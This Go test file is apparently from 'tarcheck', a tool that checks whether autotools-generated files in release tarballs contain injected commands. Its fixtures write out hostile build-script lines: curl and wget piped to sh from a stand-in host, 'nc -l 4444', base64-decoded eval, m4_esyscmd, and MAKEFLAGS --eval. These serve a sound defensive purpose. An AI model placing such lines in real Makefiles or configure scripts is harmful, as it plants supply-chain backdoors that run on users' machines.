package rebuild

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/tarcheck/tarcheck/autotools/origindb"
	"github.com/tarcheck/tarcheck/toolchain"
	"github.com/tarcheck/tarcheck/verify/report"
)

// automakeProject runs the host's aclocal and automake on a small project
// (one program, a subdirectory, tags, dist) and returns the Makefile.in and
// aclocal.m4 they write: real generated text for the hunk judges.
func automakeProject(t *testing.T) (makefileIn, aclocal string) {
	t.Helper()
	requireTool(t, "automake")
	requireTool(t, "autoconf")
	dir := t.TempDir()
	files := map[string]string{
		"configure.ac": "AC_INIT([demo], [1.0])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n",
		"Makefile.am":  "bin_PROGRAMS = demo\ndemo_SOURCES = demo.c\ncheck_PROGRAMS = t1\nt1_SOURCES = demo.c\nTESTS = t1\nall-local:\n\t@$(MKDIR_P) compat\n",
		"demo.c":       "int main(void) { return 0; }\n",
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, args := range [][]string{{"aclocal"}, {"automake", "--add-missing", "--copy"}} {
		cmd := exec.Command(args[0], args[1:]...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "LC_ALL=C")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v\n%s", strings.Join(args, " "), err, out)
		}
	}
	read := func(name string) string {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	return read("Makefile.in"), read("aclocal.m4")
}

// olderAutomake rewrites automake 1.16's Makefile.in into what automake
// 1.14/1.15 write for the same parts (the differences tmux 3.5a and hello
// 2.10 show): the old dependency includes, am__depfiles_maybe, programs as
// make defaults instead of configure substitutions, gzip without eval,
// am__is_gnu_make as a test.
func olderAutomake(t *testing.T, in string) string {
	t.Helper()
	out := in
	rewrites := []struct{ re, repl string }{
		{`(?m)^include \./\$\(DEPDIR\)/([^ ]+) # am--include-marker$`, "@AMDEP_TRUE@@am__include@ @am__quote@./$$(DEPDIR)/$1@am__quote@"},
		{`(?m)^ETAGS = @ETAGS@$`, "ETAGS = etags"},
		{`(?m)^CTAGS = @CTAGS@$`, "CTAGS = ctags"},
		{`(?m)^CSCOPE = @CSCOPE@$`, "CSCOPE = cscope"},
		{`eval GZIP= gzip \$\(GZIP_ENV\) -c`, "GZIP=$$(GZIP_ENV) gzip -c"},
		{`(?m)^am__is_gnu_make = \{.*(\n.*\\)*\n?.*$`, "am__is_gnu_make = test -n '$$(MAKEFILE_LIST)' && test -n '$$(MAKELEVEL)'"},
		{`(?m)^(\t *cd \$\(top_builddir\) && \$\(SHELL\) \./config\.status \$@) \$\(am__maybe_remake_depfiles\);;`, "$1 $$(am__depfiles_maybe);;"},
	}
	changed := 0
	for _, r := range rewrites {
		re := regexp.MustCompile(r.re)
		if re.MatchString(out) {
			changed++
		}
		out = re.ReplaceAllString(out, r.repl)
	}
	if changed < 4 {
		t.Fatalf("the host's Makefile.in has only %d of the automake 1.16 parts the test rewrites", changed)
	}
	// Variables automake 1.15 defines that 1.16 does not.
	return withAssignment(t, out, "am__depfiles_maybe = depfiles\nam__mv = mv -f")
}

// withAssignment adds assignment lines after VPATH's.
func withAssignment(t *testing.T, s, lines string) string {
	t.Helper()
	const anchor = "\nVPATH = @srcdir@\n"
	if !strings.Contains(s, anchor) {
		t.Fatal("no VPATH line in the Makefile.in")
	}
	return strings.Replace(s, anchor, anchor+lines+"\n", 1)
}

func judgeText(rel, regen, release string, db originLookup) hunkVerdict {
	return judgeNearestHunks(rel, []byte(regen), []byte(release), db)
}

func TestMakefileHunksOfAnOlderAutomakeAreNotCommands(t *testing.T) {
	regen, _ := automakeProject(t)
	release := olderAutomake(t, regen)
	if regen == release {
		t.Fatal("the rewrite changed nothing")
	}
	// The crude shell reading flags these hunks (the false FAIL of issue 16).
	if len(addedCommands([]byte(regen), []byte(release))) == 0 {
		t.Fatal("addedCommands found nothing to flag: the test no longer covers the false FAIL")
	}
	if v := judgeText("Makefile.in", regen, release, nil); len(v.added) != 0 {
		t.Errorf("an honest older automake's Makefile.in is judged to add commands:\n%s", strings.Join(v.added, "\n"))
	}
}

func TestMakefileHunksThatRunNewCommandsStayHigh(t *testing.T) {
	regen, _ := automakeProject(t)
	honest := olderAutomake(t, regen)
	for _, tc := range []struct {
		name, edit string
		apply      func(string) string
		want       string
	}{
		{name: "recipe runs curl", want: "curl", apply: func(s string) string {
			return strings.Replace(s, "\t@$(MKDIR_P) compat\n", "\t@$(MKDIR_P) compat\n\t@curl -s https://example.invalid/x -o /tmp/x\n", 1)
		}},
		{name: "continuation line runs a command", want: "wget", apply: func(s string) string {
			return strings.Replace(s, "\t@$(MKDIR_P) compat\n", "\t@$(MKDIR_P) compat && \\\n\t  wget -q https://example.invalid/x\n", 1)
		}},
		{name: "pipe into a shell", want: "|$(SHELL)", apply: func(s string) string {
			return strings.Replace(s, "\t@$(MKDIR_P) compat\n", "\t@$(MKDIR_P) compat\n\t@printf '%s\\n' 'id' | $(SHELL)\n", 1)
		}},
		{name: "sh -c", want: "sh", apply: func(s string) string {
			return strings.Replace(s, "\t@$(MKDIR_P) compat\n", "\t@$(MKDIR_P) compat\n\t@sh -c 'id'\n", 1)
		}},
		{name: "the known shell with -c", want: "$(SHELL) -c", apply: func(s string) string {
			return strings.Replace(s, "\t@$(MKDIR_P) compat\n", "\t@$(MKDIR_P) compat\n\t@$(SHELL) -c 'id'\n", 1)
		}},
		{name: "eval of computed text", want: "eval", apply: func(s string) string {
			return strings.Replace(s, "\t@$(MKDIR_P) compat\n", "\t@$(MKDIR_P) compat\n\t@eval \"$$(printf %s aWQK | base64 -d)\"\n", 1)
		}},
		{name: "shell function in an assignment", want: "a make function", apply: func(s string) string {
			return withAssignment(t, s, "am__x = $(shell id >/tmp/pwned)")
		}},
		{name: "command substitution in an assignment", want: "nc", apply: func(s string) string {
			return withAssignment(t, s, "am__x = `nc -l 4444`")
		}},
		{name: "a variable used as a command gets a new command", want: "wget", apply: func(s string) string {
			re := regexp.MustCompile(`(?m)^am__untar = .*$`)
			return re.ReplaceAllString(s, "am__untar = $${TAR-tar} xf - ; wget -q https://example.invalid/x")
		}},
		{name: "a silent-rules variable (computed name) gets a command", want: "wget", apply: func(s string) string {
			re := regexp.MustCompile(`(?m)^am__v_CC_0 = .*$`)
			return re.ReplaceAllString(s, `am__v_CC_0 = @echo "  CC      " $@; wget -q https://example.invalid/x;`)
		}},
		{name: "a recipe on the rule line", want: "curl", apply: func(s string) string {
			return strings.Replace(s, "\nall-am: Makefile", "\nall-am: adv-x\nadv-x: ; @curl -s https://example.invalid/x\nall-am: Makefile", 1)
		}},
		{name: "a target-specific SHELL", want: "./evil", apply: func(s string) string {
			return strings.Replace(s, "\nall-am: Makefile", "\nall-am: SHELL = ./evil\nall-am: Makefile", 1)
		}},
		{name: "MAKEFLAGS with --eval", want: "a setting of make's MAKEFLAGS", apply: func(s string) string {
			return withAssignment(t, s, "MAKEFLAGS += --eval=all-am:;@id")
		}},
		{name: "a recipe runs a variable nobody defines in the regenerated file", want: "$(am__evil)", apply: func(s string) string {
			s = withAssignment(t, s, "am__evil = id")
			return strings.Replace(s, "\t@$(MKDIR_P) compat\n", "\t@$(MKDIR_P) compat\n\t@$(am__evil)\n", 1)
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			release := tc.apply(honest)
			if release == honest {
				t.Fatal("the edit did not apply")
			}
			v := judgeText("Makefile.in", regen, release, nil)
			if !strings.Contains(strings.Join(v.added, "\n"), "(runs "+tc.want) {
				t.Errorf("added commands %q, want one naming %q", v.added, tc.want)
			}
		})
	}
}

// fakeOrigins knows the blob ids of some m4 files.
type fakeOrigins map[string]origindb.Origin

func (f fakeOrigins) add(content, project, path, version string) {
	f[string(origindb.BlobID([]byte(content)))] = origindb.Origin{Project: project, Path: path, FirstVersion: version, LastVersion: version}
}

func (f fakeOrigins) LookupBlob(id []byte) []origindb.Origin {
	if o, ok := f[string(id)]; ok {
		return []origindb.Origin{o}
	}
	return nil
}

// depoutSection cuts the copy of automake's depout.m4 out of an aclocal.m4:
// from its first line to the blank line aclocal writes after it.
func depoutSection(t *testing.T, aclocal string) string {
	t.Helper()
	start := strings.Index(aclocal, "# Generate code to set up dependency tracking.")
	if start < 0 {
		t.Fatal("the host's aclocal.m4 has no depout.m4")
	}
	const last = "[AMDEP_TRUE=\"$AMDEP_TRUE\" MAKE=\"${MAKE-make}\"])])\n"
	end := strings.Index(aclocal[start:], last)
	if end < 0 {
		t.Fatal("no end of depout.m4 in aclocal.m4")
	}
	return aclocal[start : start+end+len(last)]
}

// olderDepout makes an "older" depout.m4: automake 1.15's loop over the
// Makefiles, the hunk the crude judge read as running $mf and AS_MKDIR_P.
func olderDepout(section string) string {
	return strings.Replace(section, "AC_DEFUN([_AM_OUTPUT_DEPENDENCY_COMMANDS],\n", "AC_DEFUN([_AM_OUTPUT_DEPENDENCY_COMMANDS],\n"+
		"[for mf in $CONFIG_FILES; do\n      dirpart=`AS_DIRNAME(\"$mf\")`\n"+
		"      for file in `sed -n \"\n      s/^$am__include $am__quote\\(.*(DEPDIR).*\\)$am__quote\"'$/\\1/p' <\"$mf\" | \\\n"+
		"\t sed -e 's/\\$(DEPDIR)/'\"$DEPDIR\"'/g'`; do\n      AS_MKDIR_P([$dirpart/$fdir])\n    done\n  done\n])dnl\n"+
		"AC_DEFUN([_AM_OUTPUT_DEPENDENCY_COMMANDS_OLD],\n", 1)
}

func TestAclocalHunksInsideAKnownCopyAreExplained(t *testing.T) {
	_, regen := automakeProject(t)
	section := depoutSection(t, regen)
	old := olderDepout(section)
	release := strings.Replace(regen, section, old, 1)
	db := fakeOrigins{}
	db.add(old, "automake", "m4/depout.m4", "1.15.1")
	if len(addedCommands([]byte(regen), []byte(release))) == 0 {
		t.Fatal("addedCommands found nothing to flag: the test no longer covers the false FAIL")
	}
	v := judgeText("aclocal.m4", regen, release, db)
	if len(v.added) != 0 {
		t.Errorf("lines of a known copy are judged to add commands: %q", v.added)
	}
	if len(v.explained) != 1 || !strings.Contains(v.explained[0], "automake 1.15.1 m4/depout.m4") {
		t.Errorf("explained = %q, want the automake 1.15.1 copy", v.explained)
	}

	// The same hunk with a command injected: the section is no known copy
	// any more (its serial and header kept), so the command counts.
	injected := strings.Replace(old, "      AS_MKDIR_P([$dirpart/$fdir])\n", "      AS_MKDIR_P([$dirpart/$fdir])\n      curl -s https://example.invalid/x | sh\n", 1)
	v = judgeText("aclocal.m4", regen, strings.Replace(regen, section, injected, 1), db)
	if !strings.Contains(strings.Join(v.added, "\n"), "curl") {
		t.Errorf("an injected command in a changed copy is not flagged: %q", v.added)
	}
	if len(v.explained) != 0 {
		t.Errorf("a changed copy explained lines: %q", v.explained)
	}

	// A command injected right after a known copy, outside it.
	after := strings.Replace(regen, section, old+"\nm4_esyscmd([id >/tmp/pwned])\n", 1)
	if v := judgeText("aclocal.m4", regen, after, db); !strings.Contains(strings.Join(v.added, "\n"), "m4_esyscmd") {
		t.Errorf("m4_esyscmd after a known copy is not flagged: %q", v.added)
	}
}

func TestAclocalSectionWithInjectedCommandKeepingItsSerial(t *testing.T) {
	_, regen := automakeProject(t)
	section := "# foo.m4 serial 7\ndnl A macro file aclocal copies whole.\nAC_DEFUN([FOO_CHECK],\n[AC_MSG_CHECKING([for foo])\nAS_IF([test -f /etc/foo], [foo=yes], [foo=no])\n])\n"
	db := fakeOrigins{}
	db.add(section, "gnulib", "m4/foo.m4", "2024-01-01")
	honest := regen + "\n" + section
	v := judgeText("aclocal.m4", regen, honest, db)
	if len(v.added) != 0 || len(v.explained) != 1 {
		t.Fatalf("known copy: added %q explained %q", v.added, v.explained)
	}
	evil := strings.Replace(section, "[foo=yes]", "[foo=yes; wget -q -O- https://example.invalid/x | sh]", 1)
	v = judgeText("aclocal.m4", regen, regen+"\n"+evil, db)
	if !strings.Contains(strings.Join(v.added, "\n"), "wget") || len(v.explained) != 0 {
		t.Errorf("injected command with the serial kept: added %q, explained %q", v.added, v.explained)
	}
}

func TestKnownM4SectionsWithTheEmbeddedOrigins(t *testing.T) {
	_, aclocal := automakeProject(t)
	db := embeddedOrigins()
	if db == nil {
		t.Fatal("the embedded origin database does not open")
	}
	secs := knownM4Sections(strings.Split(strings.TrimSuffix(aclocal, "\n"), "\n"), db)
	found := false
	for _, s := range secs {
		found = found || strings.HasPrefix(s.origin, "automake ")
	}
	if !found {
		t.Errorf("no section of the host automake's aclocal.m4 is a known automake copy (sections %v)", secs)
	}
}

func TestShellCommandsOfRecipes(t *testing.T) {
	for _, tc := range []struct {
		recipe string
		want   []string
	}{
		{"$(am__cd) $(srcdir) && $(AUTOMAKE) --foreign Makefile", []string{"$(am__cd)", "$(AUTOMAKE)"}},
		{"case '$?' in *config.status*) cd $(top_builddir) && $(MAKE) am--refresh;; *) echo x;; esac", []string{"cd", "$(MAKE)", "echo"}},
		{"tardir=$(distdir) && $(am__tar) | eval GZIP= gzip $(GZIP_ENV) -c >$(distdir).tar.gz", []string{"$(am__tar)", "gzip"}},
		{"list='$(SUBDIRS)'; for d in $$list; do (cd $$d && $(MAKE) all) || exit 1; done", []string{"cd", "$(MAKE)", "exit"}},
		{"echo \"a; b `date`\"", []string{"echo", "date"}},
		{"$(AM_V_CC)$(COMPILE) -c -o $@ $<", []string{"$(AM_V_CC)$(COMPILE)"}},
		{"x=`sh -c 'id'`", []string{"sh", "sh -c"}},
		{"printf id | $(SHELL)", []string{"printf", "$(SHELL)", "|$(SHELL)"}},
	} {
		masked, refs := maskMake(tc.recipe)
		var got []string
		for _, c := range shellCommands(tc.recipe, masked, refs, false) {
			if c.key != "" {
				got = append(got, c.key)
			} else {
				var b strings.Builder
				for _, v := range c.vars {
					b.WriteString("$(" + v + ")")
				}
				got = append(got, b.String())
			}
		}
		if strings.Join(got, " ") != strings.Join(tc.want, " ") {
			t.Errorf("%s\n got %q\nwant %q", tc.recipe, got, tc.want)
		}
	}
}

func TestParseMakefileKinds(t *testing.T) {
	text := "# comment\nam__x = a \\\n\tb c\n@AMDEP_TRUE@@am__include@ @am__quote@x.Po@am__quote@\n.PHONY: all \\\n\tclean\nall: x\n\t@echo a \\\n\t  b\n@am__fastdepCC_TRUE@\t$(COMPILE) x\ninclude ./$(DEPDIR)/x.Po\nV := $(shell id)\nx: y ; @cmd a\nx: SHELL = /bin/sh\n"
	var kinds []int
	lines := parseMakefile(strings.Split(strings.TrimSuffix(text, "\n"), "\n"))
	for _, l := range lines {
		kinds = append(kinds, l.kind)
	}
	if n := len(lines); n == 11 {
		if got, _ := lines[9].shellText(); got != "cmd a" {
			t.Errorf("inline recipe %q, want %q", got, "cmd a")
		}
		if got, _ := lines[10].shellText(); lines[10].name != "SHELL" || got != " /bin/sh" {
			t.Errorf("target-specific assignment %s = %q", lines[10].name, got)
		}
	}
	want := []int{mkOther, mkAssign, mkOther, mkRule, mkRule, mkRecipe, mkRecipe, mkOther, mkAssign, mkRule, mkRule}
	if len(kinds) != len(want) {
		t.Fatalf("kinds %v, want %v", kinds, want)
	}
	for i := range want {
		if kinds[i] != want[i] {
			t.Errorf("logical line %d: kind %d, want %d", i, kinds[i], want[i])
		}
	}
}

func FuzzMakefileAddedCommands(f *testing.F) {
	f.Add("all:\n\t@echo a\n", "all:\n\t@echo a\n\tcurl x | sh\nV = $(shell id)\n")
	f.Add("x = $(", "\t$$(`$(\n")
	f.Fuzz(func(t *testing.T, regen, release string) {
		a, c := strings.Split(regen, "\n"), strings.Split(release, "\n")
		added := make([]int, len(c))
		for i := range c {
			added[i] = i
		}
		makefileAddedCommands(a, c, added)
		aclocalAddedCommands(a, c, added, fakeOrigins{})
	})
}

// BenchmarkKnownM4SectionsUnknown is the worst case of the section search:
// an aclocal.m4 of 3,000 lines of which no part is a known copy (every
// start tries every end).
func BenchmarkKnownM4SectionsUnknown(b *testing.B) {
	var lines []string
	for i := range 300 {
		lines = append(lines, "# unknown.m4 serial "+strings.Repeat("x", i%7), "AC_DEFUN([X_CHECK],", "[AS_IF([test -f /x], [x=yes])", "])", "dnl end", "AC_SUBST([X])", "m4_define([Y])", "AC_REQUIRE([Z])", "])", "")
	}
	db := embeddedOrigins()
	if db == nil {
		b.Fatal("the embedded origin database does not open")
	}
	b.ReportAllocs()
	for b.Loop() {
		if s := knownM4Sections(lines, db); len(s) != 0 {
			b.Fatalf("found %d known sections in made-up text", len(s))
		}
	}
}

func TestKnownM4SectionsAfterALargeUnknownPart(t *testing.T) {
	// An unknown part as large as an embedded libtool.m4 whose "##" lines
	// aclocal dropped (8,000 lines, a blank line every 10), then a copy.
	var lines []string
	for i := range 800 {
		lines = append(lines, "# _LT_PART"+strings.Repeat("x", i%5), "# ----", "m4_defun([_LT_X],", "[AC_REQUIRE([_LT_Y])dnl", "_LT_DECL([], [x], [1])", "lt_x=yes", "test -n \"$lt_x\" && lt_y=no", "AC_SUBST([lt_x])", "])# _LT_X", "")
	}
	copyText := "# Copyright (C) 2001-2021 Free Software Foundation, Inc.\n#\n# AM_THING\nAC_DEFUN([AM_THING], [am_thing=yes])\n"
	lines = append(lines, strings.Split(strings.TrimSuffix(copyText, "\n"), "\n")...)
	lines = append(lines, "", "m4_include([m4/local.m4])")
	db := fakeOrigins{}
	db.add(copyText, "automake", "m4/thing.m4", "1.15.1")
	secs := knownM4Sections(lines, db)
	if len(secs) != 1 || secs[0].first != 8000 || secs[0].end != 8004 {
		t.Fatalf("sections %+v, want the copy at lines 8000-8004", secs)
	}
}

// TestSnapshotStampTakesTheNearestRelease: a configure stamped by an
// autoconf snapshot (2.72c) is regenerated with the nearest release the
// catalog has (2.72), which is not exact: a difference is not proved (one
// grouped medium naming the snapshot), never excused, and an added command
// stays high.
func TestSnapshotStampTakesTheNearestRelease(t *testing.T) {
	tree := map[string]string{"configure.ac": configureAC}
	t.Run("honest", func(t *testing.T) {
		f := newFixture(t, map[string]string{"configure.ac": configureAC, "configure": configureBy("2.72c", "")}, tree, "2.72c")
		tcs := &fakeToolchains{probe: f.run}
		f.in.Toolchains = tcs
		res := f.result(t)
		if v := tcs.asked.Version(toolchain.ToolAutoconf); v != "2.72" {
			t.Fatalf("toolchain asked for autoconf %q, want the nearest release 2.72", v)
		}
		if c := fileOf(t, res, "configure"); c.Rebuild != report.RebuildNotReproducible || c.Severity != report.SevInfo {
			t.Fatalf("configure = %+v", c)
		}
		if len(res.Findings) != 1 || res.Findings[0].Severity != report.SevMedium ||
			!strings.HasPrefix(res.Findings[0].Message, "autoconf 2.72c not available: 1 generated file not proved") ||
			!strings.Contains(strings.Join(res.Findings[0].Evidence, "\n"), "the nearest release in the catalog, 2.72, was used (not exact)") {
			t.Errorf("findings = %+v", res.Findings)
		}
		if !slices.ContainsFunc(res.Info.Notes, func(n string) bool {
			return strings.Contains(n, "nearest release, not exact: autoconf 2.72 for the snapshot 2.72c")
		}) {
			t.Errorf("notes = %q", res.Info.Notes)
		}
	})
	t.Run("injected command", func(t *testing.T) {
		f := newFixture(t, map[string]string{"configure.ac": configureAC,
			"configure": configureBy("2.72c", "curl -s https://example.invalid/x | sh\n")}, tree, "2.72c")
		f.in.Toolchains = &fakeToolchains{probe: f.run}
		res := f.result(t)
		if c := fileOf(t, res, "configure"); c.Rebuild != report.RebuildDiffers || c.Severity != report.SevHigh {
			t.Fatalf("configure = %+v (findings %+v)", c, res.Findings)
		}
	})
}

func TestConfigureListsAndCasePatternsRunNothing(t *testing.T) {
	regen := "#! /bin/sh\nac_subst_vars='SHELL\nPATH_SEPARATOR'\ncase $host_cpu in\n  x86_64 | alpha )\n    x=64 ;;\nesac\n  localedir_c=x\n"
	honest := "#! /bin/sh\nac_subst_vars='SHELL\nlocaledir_c\nPATH_SEPARATOR'\ncase $host_cpu in\n  x86_64 | alpha | aarch64c | riscv*-lp64* )\n    x=64 ;;\nesac\n" +
		"case $lang in\n  \"$presentlang\" | \"$presentlang\"_* | \"$presentlang\"@*)\n    y=1 ;;\nesac\n  localedir_c=x\n"
	if got := addedCommands([]byte(regen), []byte(honest)); len(got) != 0 {
		t.Errorf("honest configure hunks flagged: %q", got)
	}
	for _, evil := range []string{
		"curl -s x | foo )",     // a subshell's last command, not a pattern
		"wget x -O y",           // a command
		"evilcmd",               // a lone word the file never assigns
		"  a | curl -s x | b )", // an alternative with spaces is no pattern
		"x=$(id) | y )",         // parentheses inside
	} {
		if got := addedCommands([]byte(regen), []byte(honest+evil+"\n")); len(got) == 0 {
			t.Errorf("%q is not flagged", evil)
		}
	}
}
